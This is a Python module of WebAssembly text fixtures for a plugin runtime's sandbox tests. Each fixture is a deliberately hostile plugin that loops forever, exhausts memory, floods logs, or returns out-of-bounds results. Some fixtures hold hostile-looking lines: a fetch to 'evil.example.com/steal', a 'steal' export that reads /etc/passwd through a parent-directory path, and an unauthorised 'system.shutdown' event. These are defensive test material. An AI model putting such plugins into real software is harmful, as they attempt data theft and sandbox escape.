"""WebAssembly text sources for the wasm runtime tests and the conformance suite.

Each hostile module is a complete, ABI-following plugin (memory, alloc, dealloc) whose handler
misbehaves in one way. They are compiled in the tests with ``wasmtime.wat2wasm`` through the
runtime itself: no external toolchain.
"""

from __future__ import annotations

from pathlib import Path

ALLOCATOR = """
  (global $heap_base i32 (i32.const 4096))
  (global $heap (mut i32) (i32.const 4096))
  (global $live (mut i32) (i32.const 0))
  (func $alloc (export "alloc") (param $size i32) (result i32)
    (local $ptr i32) (local $end i32) (local $have i32)
    (local.set $ptr (i32.and (i32.add (global.get $heap) (i32.const 7)) (i32.const -8)))
    (local.set $end (i32.add (local.get $ptr) (local.get $size)))
    (local.set $have (i32.mul (memory.size) (i32.const 65536)))
    (if (i32.gt_u (local.get $end) (local.get $have))
      (then
        (if (i32.eq (memory.grow (i32.shr_u (i32.add (i32.sub (local.get $end) (local.get $have))
                                                     (i32.const 65535)) (i32.const 16)))
                    (i32.const -1))
          (then (return (i32.const 0))))))
    (global.set $heap (local.get $end))
    (global.set $live (i32.add (global.get $live) (i32.const 1)))
    (local.get $ptr))
  (func $dealloc (export "dealloc") (param $ptr i32) (param $size i32)
    (if (i32.lt_u (local.get $ptr) (global.get $heap_base)) (then (return)))
    (global.set $live (i32.sub (global.get $live) (i32.const 1)))
    (if (i32.eqz (global.get $live)) (then (global.set $heap (global.get $heap_base)))))
  (func $pack (param $ptr i32) (param $len i32) (result i64)
    (i64.or (i64.shl (i64.extend_i32_u (local.get $ptr)) (i64.const 32))
            (i64.extend_i32_u (local.get $len))))
"""


def module(body: str, *, imports: str = "", pages: int = 1) -> str:
    """A plugin module: ``imports`` first (WAT requires it), then memory, allocator, ``body``."""
    return f'(module\n{imports}\n  (memory (export "memory") {pages})\n{ALLOCATOR}\n{body}\n)'


# echo: returns {"ok": <request>} -- the well-behaved neighbour and the fast-path subject
ECHO = module("""
  (data (i32.const 16) "{\\"ok\\":")
  (data (i32.const 32) "}")
  (func (export "echo") (param $ptr i32) (param $len i32) (result i64)
    (local $out i32) (local $n i32)
    (local.set $n (i32.add (local.get $len) (i32.const 7)))
    (local.set $out (call $alloc (local.get $n)))
    (if (i32.eqz (local.get $out)) (then unreachable))
    (memory.copy (local.get $out) (i32.const 16) (i32.const 6))
    (memory.copy (i32.add (local.get $out) (i32.const 6)) (local.get $ptr) (local.get $len))
    (memory.copy (i32.add (local.get $out) (i32.add (i32.const 6) (local.get $len)))
                 (i32.const 32) (i32.const 1))
    (call $pack (local.get $out) (local.get $n)))
  (func (export "noop") (result i32) (i32.const 7))
  (func (export "add") (param i32 i32) (result i32) (i32.add (local.get 0) (local.get 1)))
  (func (export "add64") (param i64 i64) (result i64) (i64.add (local.get 0) (local.get 1)))
  (func (export "mulf") (param f64 f32) (result f64)
    (f64.mul (local.get 0) (f64.promote_f32 (local.get 1))))
  (func (export "pair") (param i32) (result i32 i64)
    (local.get 0) (i64.extend_i32_s (local.get 0)))
  (global $counter (mut i32) (i32.const 0))
  (func (export "bump") (result i32)
    (global.set $counter (i32.add (global.get $counter) (i32.const 1)))
    (global.get $counter))
""")

def with_exports(base: str, envelope: str) -> str:
    """``base`` plus a ``plughost_exports`` handler returning the JSON ``envelope`` verbatim."""
    escaped = envelope.replace("\\", "\\\\").replace('"', '\\"')
    return base.rstrip().removesuffix(")") + (
        f'  (data (i32.const 256) "{escaped}")\n'
        '  (func (export "plughost_exports") (param i32 i32) (result i64)\n'
        f"    (call $pack (i32.const 256) (i32.const {len(envelope.encode())})))\n)"
    )


# events: ECHO plus plughost_exports declaring a command, an event subscription and a hook
EVENTS = with_exports(
    ECHO,
    '{"ok":{"commands":[{"name":"echo.say","export":"echo"}],'
    '"events":[{"topic":"music.*","export":"echo"}],'
    '"hooks":[{"name":"app.filter","export":"echo","options":{"priority":5}}]}}',
)

# bad exports: plughost_exports names a missing handler and an unknown key
BAD_EXPORTS = with_exports(
    ECHO, '{"ok":{"commands":[{"name":"x","export":"nope"}],"bogus":[]}}'
)

# health: plughost_health answers {"ok": false, "detail": "db down", "data": {"retries": 3}}
SICK = with_exports(ECHO, '{"ok":{}}').rstrip().removesuffix(")") + """
  (data (i32.const 512) "{\\"ok\\":{\\"ok\\":false,\\"detail\\":\\"db down\\","
                        "\\"data\\":{\\"retries\\":3}}}")
  (func (export "plughost_health") (param i32 i32) (result i64)
    (call $pack (i32.const 512) (i32.const 59)))
)"""

# spin: loops forever in a handler (and in a numeric export)
SPIN = module("""
  (func (export "run") (param i32 i32) (result i64) (loop $l (br $l)) (i64.const 0))
  (func (export "spin") (loop $l (br $l)))
""")

# bomb: grows memory one page at a time until refused, then writes past the end
MEMORY_BOMB = module("""
  (func (export "run") (param i32 i32) (result i64)
    (block $done
      (loop $grow
        (br_if $done (i32.eq (memory.grow (i32.const 1)) (i32.const -1)))
        (br $grow)))
    ;; growth refused: touch the byte just past the end, as a real allocator's caller would
    (i32.store8 (i32.mul (memory.size) (i32.const 65536)) (i32.const 1))
    (i64.const 0))
  (func (export "pages") (result i32) (memory.size))
""")

# crash: traps mid-call (unreachable), or divides by zero
CRASH = module("""
  (global $calls (mut i32) (i32.const 0))
  (func (export "run") (param i32 i32) (result i64)
    (global.set $calls (i32.add (global.get $calls) (i32.const 1)))
    unreachable)
  (func (export "div") (param i32 i32) (result i32) (i32.div_s (local.get 0) (local.get 1)))
  (func (export "calls") (result i32) (global.get $calls))
  (func $recurse (export "recurse") (param i32 i32) (result i64)
    (call $recurse (i32.const 0) (i32.const 0)))
""")

# flood: calls plughost.log `count` times with a 1 KiB line
LOG_FLOOD = module(
    """
  (func $flood (export "flood") (param $count i32) (result i32)
    (local $i i32)
    (block $done
      (loop $next
        (br_if $done (i32.ge_u (local.get $i) (local.get $count)))
        (call $log (i32.const 1) (i32.const 1024) (i32.const 1024))
        (local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br $next)))
    (local.get $i))
  (func (export "run") (param i32 i32) (result i64)
    (drop (call $flood (i32.const 5000)))
    (i64.const 0))
""",
    imports='  (import "plughost" "log" (func $log (param i32 i32 i32)))',
)

# oversized: claims a 64 MiB result; or a result pointer outside memory
OVERSIZED = module("""
  (func (export "run") (param i32 i32) (result i64)
    (call $pack (i32.const 0) (i32.const 67108864)))
  (func (export "wild") (param i32 i32) (result i64)
    (call $pack (i32.const 1048576) (i32.const 16)))
  (data (i32.const 64) "not json at all")
  (func (export "garbage") (param i32 i32) (result i64)
    (call $pack (i32.const 64) (i32.const 15)))
""")

# http: asks the host to fetch a URL it has no grant for; returns the host's answer
FORBIDDEN_HTTP = module(
    """
  (data (i32.const 64) "{\\"method\\":\\"GET\\",\\"url\\":\\"http://evil.example.com/steal\\"}")
  (func (export "run") (param i32 i32) (result i64)
    (call $http (i32.const 64) (i32.const 54)))
""",
    imports='  (import "plughost" "http_request" (func $http (param i32 i32) (result i64)))',
)

# emit: publishes an event on a topic it has no grant for; returns the host's answer
FORBIDDEN_EMIT = module(
    """
  (data (i32.const 64) "{\\"topic\\":\\"system.shutdown\\",\\"payload\\":{\\"now\\":true}}")
  (func (export "run") (param i32 i32) (result i64)
    (call $emit (i32.const 64) (i32.const 50)))
""",
    imports='  (import "plughost" "emit" (func $emit (param i32 i32) (result i64)))',
)

# wasi: opens files relative to the first preopened directory (fd 3)
#   try_open(which) -> errno: 0 "data.txt", 1 "../outside.txt", 2 "/etc/passwd",
#                             3 create "new.txt" (needs a writable grant)
#   run: reads "data.txt" and returns {"ok":"<its first bytes>"}
WASI_FILES = module(
    """
  (data (i32.const 64) "data.txt")
  (data (i32.const 80) "../outside.txt")
  (data (i32.const 112) "/etc/passwd")
  (data (i32.const 128) "new.txt")
  (data (i32.const 144) "{\\"ok\\":\\"")
  (data (i32.const 240) "{\\"ok\\":\\"denied\\"}")
  (data (i32.const 272) "{\\"ok\\":\\"LEAKED\\"}")
  (func $open (param $which i32) (result i32)
    (local $path i32) (local $len i32) (local $oflags i32) (local $rights i64)
    (local.set $path (i32.const 64)) (local.set $len (i32.const 8))
    (local.set $rights (i64.const 2))  ;; fd_read
    (if (i32.eq (local.get $which) (i32.const 1))
      (then (local.set $path (i32.const 80)) (local.set $len (i32.const 14))))
    (if (i32.eq (local.get $which) (i32.const 2))
      (then (local.set $path (i32.const 112)) (local.set $len (i32.const 11))))
    (if (i32.eq (local.get $which) (i32.const 3))
      (then (local.set $path (i32.const 128)) (local.set $len (i32.const 7))
            (local.set $oflags (i32.const 1)) (local.set $rights (i64.const 0x42))))
    ;; path_open(dirfd=3, dirflags, path, len, oflags, rights, inheriting, fdflags, &fd @ 200)
    (call $path_open (i32.const 3) (i32.const 0) (local.get $path) (local.get $len)
                     (local.get $oflags) (local.get $rights) (i64.const 0)
                     (i32.const 0) (i32.const 200)))
  ;; steal: try to read /etc/passwd and ../outside.txt; report whether either opened
  (func (export "steal") (param i32 i32) (result i64)
    (if (i32.or (i32.eqz (call $open (i32.const 1))) (i32.eqz (call $open (i32.const 2))))
      (then (return (call $pack (i32.const 272) (i32.const 15)))))
    (call $pack (i32.const 240) (i32.const 15)))
  (func (export "try_open") (param $which i32) (result i32)
    (local $err i32)
    (local.set $err (call $open (local.get $which)))
    (if (i32.eqz (local.get $err)) (then (drop (call $fd_close (i32.load (i32.const 200))))))
    (local.get $err))
  (func (export "run") (param i32 i32) (result i64)
    (local $n i32)
    (if (call $open (i32.const 0)) (then unreachable))
    ;; one iovec at 208: buffer 1024 (+7 past the prefix), 64 bytes; nread at 216
    (i32.store (i32.const 208) (i32.const 1031))
    (i32.store (i32.const 212) (i32.const 64))
    (if (call $fd_read (i32.load (i32.const 200)) (i32.const 208) (i32.const 1) (i32.const 216))
      (then unreachable))
    (local.set $n (i32.load (i32.const 216)))
    (drop (call $fd_close (i32.load (i32.const 200))))
    (memory.copy (i32.const 1024) (i32.const 144) (i32.const 7))
    (i32.store8 (i32.add (i32.const 1031) (local.get $n)) (i32.const 34))
    (i32.store8 (i32.add (i32.const 1032) (local.get $n)) (i32.const 125))
    (call $pack (i32.const 1024) (i32.add (local.get $n) (i32.const 9))))
""",
    imports="""
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read"
    (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
""",
)

# kv: storage_set {"key":"k","value":42} then storage_get {"key":"k"}; cfg: config_get "greeting"
STORAGE_CONFIG = module(
    """
  (data (i32.const 64) "{\\"key\\":\\"k\\",\\"value\\":42}")
  (data (i32.const 96) "{\\"key\\":\\"k\\"}")
  (data (i32.const 112) "{\\"key\\":\\"greeting\\"}")
  (func (export "kv") (param i32 i32) (result i64)
    (local $r i64)
    (local.set $r (call $set (i32.const 64) (i32.const 22)))
    (if (i64.ne (local.get $r) (i64.const 0)) (then (return (local.get $r))))
    (call $get (i32.const 96) (i32.const 11)))
  (func (export "cfg") (param i32 i32) (result i64)
    (call $config (i32.const 112) (i32.const 18)))
""",
    imports="""
  (import "plughost" "storage_set" (func $set (param i32 i32) (result i64)))
  (import "plughost" "storage_get" (func $get (param i32 i32) (result i64)))
  (import "plughost" "config_get" (func $config (param i32 i32) (result i64)))
""",
)

# stdout flood: writes a 1 KiB line to WASI stdout `count` times
STDOUT_FLOOD = module(
    """
  (func $flood (export "flood") (param $count i32) (result i32)
    (local $i i32)
    (i32.store (i32.const 16) (i32.const 1024))  ;; iovec: buf 1024, len 1024
    (i32.store (i32.const 20) (i32.const 1024))
    (memory.fill (i32.const 1024) (i32.const 111) (i32.const 1023))
    (i32.store8 (i32.const 2047) (i32.const 10))
    (block $done
      (loop $next
        (br_if $done (i32.ge_u (local.get $i) (local.get $count)))
        (drop (call $fd_write (i32.const 1) (i32.const 16) (i32.const 1) (i32.const 32)))
        (local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br $next)))
    (local.get $i))
  (func (export "run") (param i32 i32) (result i64)
    (drop (call $flood (i32.const 5000)))
    (i64.const 0))
""",
    imports="""
  (import "wasi_snapshot_preview1" "fd_write"
    (func $fd_write (param i32 i32 i32 i32) (result i32)))
""",
)

# execute: runs the command wasm-hello.greet with {"name":"Bob"}; returns the host's answer
_EXECUTE_JSON = '{"command":"wasm-hello.greet","args":{"name":"Bob"}}'
EXECUTE = module(
    f"""
  (data (i32.const 64) "{_EXECUTE_JSON.replace('"', chr(92) + '"')}")
  (func (export "run") (param i32 i32) (result i64)
    (call $execute (i32.const 64) (i32.const {len(_EXECUTE_JSON)})))
""",
    imports='  (import "plughost" "execute" (func $execute (param i32 i32) (result i64)))',
)

# config guard: on_config_change refuses every change
_REFUSAL = '{"error":{"code":"config.readonly","message":"this plugin takes no configuration"}}'
CONFIG_GUARD = module(f"""
  (data (i32.const 64) "{_REFUSAL.replace('"', chr(92) + '"')}")
  (func (export "on_config_change") (param i32 i32) (result i64)
    (call $pack (i32.const 64) (i32.const {len(_REFUSAL)})))
""")

# start function that never returns: instantiation must hit the deadline
SPIN_AT_START = module("""
  (func $forever (loop $l (br $l)))
  (start $forever)
""")

# imports something the host does not provide
BAD_IMPORT = module(
    "",
    imports='  (import "env" "system" (func (param i32) (result i32)))',
)

# no alloc/dealloc/memory at all
NOT_A_PLUGIN = '(module (func (export "main") (result i32) (i32.const 0)))'


def write(directory: Path, name: str, text: str) -> Path:
    """Write ``text`` to ``directory/name.wat`` and return the path."""
    path = directory / f"{name}.wat"
    path.write_text(text)
    return path


def relay(*names: str) -> str:
    """A plugin whose handler ``<name>`` passes its request to host function ``<name>`` and
    answers the host's envelope as its own (so a test drives any host function directly)."""
    imports = "\n".join(
        f'  (import "plughost" "{n}" (func ${n} (param i32 i32) (result i64)))' for n in names
    )
    body = "\n".join(
        f'  (func (export "{n}") (param $p i32) (param $l i32) (result i64)\n'
        f"    (call ${n} (local.get $p) (local.get $l)))"
        for n in names
    )
    return module(body, imports=imports)


def recorder(*pairs: tuple[str, str]) -> str:
    """A plugin that remembers requests: handler ``setter`` keeps its request (answers null),
    handler ``getter`` answers ``{"ok": <the kept request>}`` (``null`` before any)."""
    body = ['  (data (i32.const 16) "{\\"ok\\":")', '  (data (i32.const 32) "}")']
    for i, (setter, getter) in enumerate(pairs):
        region = 131072 + i * 8192  # page 3 onwards: away from the allocator's heap
        body.append(f"""
  (global $len{i} (mut i32) (i32.const 0))
  (func (export "{setter}") (param $ptr i32) (param $len i32) (result i64)
    (memory.copy (i32.const {region}) (local.get $ptr) (local.get $len))
    (global.set $len{i} (local.get $len))
    (i64.const 0))
  (func (export "{getter}") (param i32 i32) (result i64)
    (local $out i32) (local $n i32)
    (if (i32.eqz (global.get $len{i})) (then (return (i64.const 0))))
    (local.set $n (i32.add (global.get $len{i}) (i32.const 7)))
    (local.set $out (call $alloc (local.get $n)))
    (memory.copy (local.get $out) (i32.const 16) (i32.const 6))
    (memory.copy (i32.add (local.get $out) (i32.const 6)) (i32.const {region})
                 (global.get $len{i}))
    (memory.copy (i32.add (local.get $out) (i32.add (i32.const 6) (global.get $len{i})))
                 (i32.const 32) (i32.const 1))
    (call $pack (local.get $out) (local.get $n)))""")
    return module("\n".join(body), pages=4)


# a stateful plugin: its state is what it was last given (plughost_import_state keeps the
# request, plughost_export_state answers it); it also records the last event, configuration
# change and enable/disable notification it was sent
STATEFUL = recorder(
    ("plughost_import_state", "plughost_export_state"),
    ("on_event", "last_event"),
    ("on_config_change", "last_config"),
    ("plughost_enabled", "last_enabled"),
)


# one big grow: memory starts at 7 MiB (112 pages); "run" asks for 160 more pages (10 MiB, past
# a 16 MiB cap) in one memory.grow and traps when refused, as an allocator's caller would
BIG_GROW = module(
    """
  (func (export "run") (param i32 i32) (result i64)
    (if (i32.eq (memory.grow (i32.const 160)) (i32.const -1)) (then unreachable))
    (i64.const 0))
  (func (export "tolerant") (param i32 i32) (result i64)
    (drop (memory.grow (i32.const 160)))
    (i64.const 0))
  (func (export "pages") (result i32) (memory.size))
""",
    pages=112,
)

# state through update and rollback: "remember" keeps its request, which is the state
# plughost_export_state hands over; "imported" answers what plughost_import_state was given
HANDOVER = recorder(
    ("remember", "plughost_export_state"),
    ("plughost_import_state", "imported"),
)


# channels, one call per step: "steps" sends each step's request back to the opener
# ({"ok":{"send":[<request>]}}); "ends" sends "done" and closes at once; "garbled" answers a
# shape that is not a step answer
CHANNELS = with_exports(module("""
  (data (i32.const 16) "{\\"ok\\":{\\"send\\":[")
  (data (i32.const 48) "]}}")
  (data (i32.const 64) "{\\"ok\\":{\\"send\\":[\\"done\\"],\\"close\\":true}}")
  (data (i32.const 128) "{\\"ok\\":[1]}")
  (func (export "steps") (param $ptr i32) (param $len i32) (result i64)
    (local $out i32) (local $n i32)
    (local.set $n (i32.add (local.get $len) (i32.const 18)))
    (local.set $out (call $alloc (local.get $n)))
    (if (i32.eqz (local.get $out)) (then unreachable))
    (memory.copy (local.get $out) (i32.const 16) (i32.const 15))
    (memory.copy (i32.add (local.get $out) (i32.const 15)) (local.get $ptr) (local.get $len))
    (memory.copy (i32.add (local.get $out) (i32.add (i32.const 15) (local.get $len)))
                 (i32.const 48) (i32.const 3))
    (call $pack (local.get $out) (local.get $n)))
  (func (export "ends") (param i32 i32) (result i64)
    (call $pack (i32.const 64) (i32.const 37)))
  (func (export "garbled") (param i32 i32) (result i64)
    (call $pack (i32.const 128) (i32.const 10)))
"""), '{"ok":{"channels":[{"name":"streamer.steps","export":"steps"},'
      '{"name":"streamer.ends","export":"ends"},{"name":"streamer.garbled","export":"garbled"}]}}')
